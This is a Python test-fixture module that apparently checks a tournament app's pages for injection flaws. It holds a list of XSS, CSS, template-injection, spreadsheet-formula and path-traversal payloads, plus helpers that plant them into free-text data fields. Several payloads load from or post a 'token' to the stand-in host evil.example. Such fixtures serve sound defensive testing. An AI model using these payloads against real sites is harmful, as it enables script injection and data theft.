"""Words that would do something if a page took them for its own: markup, scripts, styles.

Each raises the counter `window.planted`, opens a dialog or asks another host where it gets through;
MARK is in all of them, so that they are found in the page wherever they became part of it.
"""

import re
from collections.abc import Callable, Mapping
from random import Random
from typing import Any

MARK = "plantd"
HOST = "evil.example"
"""A host that nothing may ask."""
_DO = "window.planted=(window.planted||0)+1"

PAYLOADS = (
    f"<script>{_DO}//plantd</script>",
    f"</title></textarea></style></script></noscript></template><script>{_DO}//plantd</script>",
    f"<img src=x:plantd onerror={_DO}>",
    f'"><img src=x:plantd onerror="{_DO}">',
    f"'><img src=x:plantd onerror='{_DO}'>",
    f'" onmouseover="{_DO}" onfocus="{_DO}" autofocus tabindex=0 plantd="',
    f"' onmouseover='{_DO}' onfocus='{_DO}' autofocus plantd='",
    f"x onfocus={_DO} autofocus plantd=",
    f"` onerror={_DO} plantd",
    f"<svg/onload={_DO} plantd>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s plantd></svg>",
    f"<svg><script>{_DO}//plantd</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x:plantd"
    f" onerror={_DO}&gt;'>",
    f"<details open ontoggle={_DO} plantd><summary>x</summary></details>",
    f"<body onload={_DO} plantd>",
    f"<iframe srcdoc='<script>parent.{_DO}//plantd</script>'></iframe>",
    f"<iframe src=javascript:parent.{_DO}//plantd></iframe>",
    f"<object data=http://{HOST}/plantd></object>",
    f"<embed src=http://{HOST}/plantd>",
    f"<link rel=stylesheet href=http://{HOST}/plantd.css>",
    f"<link rel=prefetch href=//{HOST}/plantd>",
    f"<style>*{{background:url(http://{HOST}/plantd)}}</style>",
    f'x;background:url(http://{HOST}/plantd);" style="background:url(http://{HOST}/plantd)',
    f"@import url(http://{HOST}/plantd.css);",
    f"<base href=http://{HOST}/plantd/>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/plantd'>",
    f"<form action=http://{HOST}/plantd id=x><input name=token></form><button form=x>x</button>",
    f"<a href=javascript:{_DO}//plantd>x</a>",
    f"[x](javascript:{_DO}//plantd) [y](JaVaScRiPt&colon;{_DO}) <javascript:{_DO}>",
    f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==plantd) [x]: javascript:{_DO}",
    f"![x](http://{HOST}/plantd.png) ![y](//{HOST}/plantd) <http://{HOST}/plantd>",
    f"![a](x:plantd\"onerror=\"{_DO}) ![`onerror={_DO}`](x)",
    "{{7*7}}{% raw %}{{ plantd }}${7*7}<%= 7*7 %>#{7*7}{{config.items()}}{% include 'x' %}",
    f"]]><script>{_DO}//plantd</script><![CDATA[",
    f"--><script>{_DO}//plantd</script><!--",
    f"&lt;script&gt;{_DO}//plantd&lt;/script&gt; &#60;img src=x:plantd onerror={_DO}&#62;",
    f"\\u003cscript\\u003e{_DO}//plantd\\u003c/script\\u003e",
    "=1+1 plantd", "+plantd", "@SUM(plantd)", "--plantd=x", "-plantd", "../../plantd", "%00plantd",
    "אדם plantd", "מ<b>plantd", "é" * 40 + "plantd",
)  # fmt: skip


def filled(payload: str, chance: Random) -> str:
    """The payload, sometimes with other words around it, or in other letters."""
    match chance.randrange(6):
        case 0:
            return f"Ada {payload}"
        case 1:
            return f"{payload} Crane"
        case 2:
            return payload.replace("script", "ScRiPt").replace("img", "iMg")
        case _:
            return payload


BOUND = re.compile(
    r"(?:date|start|end|regulations|structure|timezone|rounds?|cut|result|table|match|tier|kind"
    r"|format|by|winner|publish|started|seat|pod|order|byes|joins|person|account|id|elimination|after"
    r"|points|until|agenda|language|theme|withdrawn|stream|options|draw|fixed table|extension"
    r"|recorded|required|identities|mwl|corp|runner|name|screens|pauses|rulings|was|players"
    r"|pairing|reporting|overlay|image|fingerprint|)"
)
"""Keys whose values are no free text, or names that are typed elsewhere too."""


def planted(value: Any, names: Mapping[str, str], word: Callable[[str], str], key: str = "") -> Any:
    """Typed values with `word` of each free text in its place, and people as `names` call them."""
    if isinstance(value, dict):
        if key in ("options", "published"):
            return value
        called = {
            name: word(name) if key == "schedule" else names.get(name, name) for name in value
        }
        return {called[name]: planted(one, names, word, name) for name, one in value.items()}
    if isinstance(value, list):
        return [planted(one, names, word, key) for one in value]
    if key in ("id", "hall", "bracket", "stream", "line"):
        return value
    free = not BOUND.fullmatch(key) and not re.fullmatch(r"[\d:T -]*", value)
    free = free and value not in names
    return word(value) if free else names.get(value, value)
